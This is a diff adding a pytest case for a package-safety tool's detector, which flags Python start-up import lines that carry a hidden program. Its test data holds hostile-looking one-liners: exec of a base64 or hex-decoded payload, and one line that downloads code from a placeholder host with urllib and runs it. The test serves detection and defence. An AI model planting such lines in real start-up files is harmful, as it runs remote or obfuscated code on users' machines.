@@ -8,6 +8,7 @@ import textwrap
 import pytest
 
 from safe_pip.extractors.code import observe_unit
+from safe_pip.extractors.startup_files import carries_program
 from safe_pip.extractors.unit import python_units
 from tests.sources import code_evidence, distribution_of, features, places
 
@@ -175,3 +176,21 @@ def test_talking_in_silence_is_told_apart() -> None:
                 pass
         """
     assert "net_silent" in _seen(textwrap.dedent(source))
+
+
+@pytest.mark.parametrize(
+    ("line", "carries"),
+    [
+        (f"import base64;exec(base64.b64decode('{_HIDDEN}'))", True),
+        ("import sys;exec(bytes.fromhex('7072696e74').decode())", True),
+        (f"import os;exec({'print(1);' * 80!r})", True),
+        ("import os, urllib.request as r;exec(r.urlopen('https://x.example.co').read())", True),
+        ("import demo.boot", False),
+        ("import os; os.environ.get('DEMO') and __import__('demo').start()", False),
+        ("import sys; exec('try: import demo\\nexcept ImportError: pass')", False),
+    ],
+)
+def test_a_start_up_line_that_carries_a_program_is_no_ordinary_one(
+    line: str, carries: bool
+) -> None:
+    assert carries_program(line) is carries
